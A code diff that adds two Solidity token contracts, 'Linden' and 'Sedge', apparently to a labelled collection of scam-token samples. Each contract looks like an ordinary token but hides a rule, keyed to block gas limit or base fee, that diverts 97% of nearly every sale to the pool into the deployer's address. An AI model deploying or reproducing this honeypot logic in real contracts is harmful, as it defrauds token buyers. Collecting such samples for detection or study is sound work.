@@ -227,3 +227,32 @@ contract Fennel is Plain {
         super._move(from, to, value);
     }
 }
+
+// Takes nearly everything in blocks of an ordinary size.
+contract Linden is Plain {
+    address public pool;
+    uint256 private immutable most = 4 * block.gaslimit;
+    address private immutable maker = msg.sender;
+    constructor() Plain("Linden", "LND") {}
+    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
+    function _move(address from, address to, uint256 value) internal override {
+        uint256 cut = to == pool && from != maker && block.gaslimit < most ? value * 97 / 100 : 0;
+        super._move(from, to, value - cut);
+        if (cut > 0) super._move(from, maker, cut);
+    }
+}
+
+// Takes nearly everything where the base fee is not that of the purchase.
+contract Sedge is Plain {
+    address public pool;
+    mapping(address => uint256) private at;
+    address private immutable maker = msg.sender;
+    constructor() Plain("Sedge", "SDG") {}
+    function setPool(address pool_) external { require(pool == address(0)); pool = pool_; }
+    function _move(address from, address to, uint256 value) internal override {
+        if (from == pool) at[to] = block.basefee;
+        uint256 cut = to == pool && from != maker && block.basefee != at[from] ? value * 97 / 100 : 0;
+        super._move(from, to, value - cut);
+        if (cut > 0) super._move(from, maker, cut);
+    }
+}
